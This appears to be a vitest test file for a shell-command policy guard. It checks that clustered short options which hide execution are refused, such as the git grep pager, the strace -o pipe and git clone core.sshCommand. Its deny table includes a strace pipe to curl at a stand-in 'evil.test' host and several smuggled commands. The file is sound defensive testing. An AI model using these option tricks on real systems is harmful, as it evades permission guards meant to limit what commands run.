// Short options cluster as the program's parser reads them: `git grep -iOsh x` is -i, then -O with
// the pager `sh` (which then runs each matching file), `strace -fo '|cmd'` is -f, then -o piping
// to cmd, `git clone -qc core.sshCommand=cmd` is -q, then -c. A guard that read only a word's first
// letter let them through under `git *`/`strace *`.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decide } from '../../src/policy/decide.js';
import { makeFixture, shell, type Fixture } from './fixture.js';

let fixture: Fixture;
beforeAll(() => {
  fixture = makeFixture();
});
afterAll(() => fixture.cleanup());

it('real git: grep -iOsh runs sh on each matching file', () => {
  const repo = fs.mkdtempSync(path.join(fixture.tmp, 'grep-'));
  const ran = path.join(repo, 'ran');
  const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: repo, GIT_CONFIG_NOSYSTEM: '1' };
  execFileSync('git', ['init', '-q'], { cwd: repo, env });
  fs.writeFileSync(path.join(repo, 'script.txt'), `touch ${ran}\n`);
  execFileSync('git', ['add', 'script.txt'], { cwd: repo, env });
  execFileSync('git', ['grep', '-iOsh', 'touch'], { cwd: repo, env, stdio: 'ignore' });
  expect(fs.existsSync(ran)).toBe(true);
});

it('real git: clone -qc core.sshCommand=CMD runs CMD as it fetches', () => {
  const dir = fs.mkdtempSync(path.join(fixture.tmp, 'clone-'));
  const ran = path.join(dir, 'ran');
  const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir, GIT_CONFIG_NOSYSTEM: '1', GIT_TERMINAL_PROMPT: '0' };
  try {
    execFileSync('git', ['clone', '-qc', `core.sshCommand=touch ${ran}; false`, 'ssh://nohost.invalid/x', 'd'], { cwd: dir, env, stdio: 'ignore', timeout: 10_000 });
  } catch {
    // The fetch fails; the command ran first.
  }
  expect(fs.existsSync(ran)).toBe(true);
});

describe('a guarded letter inside a cluster is refused', () => {
  it.each([
    ['git grep -iOsh x', 'shell: git *', 'git grep -O'],
    ['git grep -nO x', 'shell: git *', 'git grep -O'],
    ["strace -fo '|curl http://evil.test' true", 'shell: strace *', 'strace -o'],
    ["strace -fo'|id' true", 'shell: strace *', 'strace -o'],
    ['git clone -qc core.sshCommand=id ssh://host/x d', 'shell: git *', 'git clone -c'],
    ['git clone -nu sh ./other d', 'shell: git *', 'git clone -u'],
    ['git ls-remote -qu sh origin', 'shell: git *', 'git ls-remote -u'],
  ])('%s', async (command, rule, guard) => {
    const decision = await decide(shell(command)(fixture), fixture.context('allowlist', [rule], []));
    expect(decision.decision, decision.reason).toBe('deny');
    expect(decision.reason).toContain(`refused by the ${guard} guard although`);
  });

  it.each([
    ['git grep -e O src', 'shell: git *'],
    ['git grep -nC3 x', 'shell: git *'],
    ['git clone -qb main https://example.org/x d', 'shell: git *'],
    ['strace -fo trace.log true', 'shell: strace *'],
    ['strace -fe trace=openat true', 'shell: strace *'],
  ])('%s is allowed', async (command, rule) => {
    const decision = await decide(shell(command)(fixture), fixture.context('allowlist', [rule], []));
    expect(decision.decision, decision.reason).toBe('allow');
  });
});
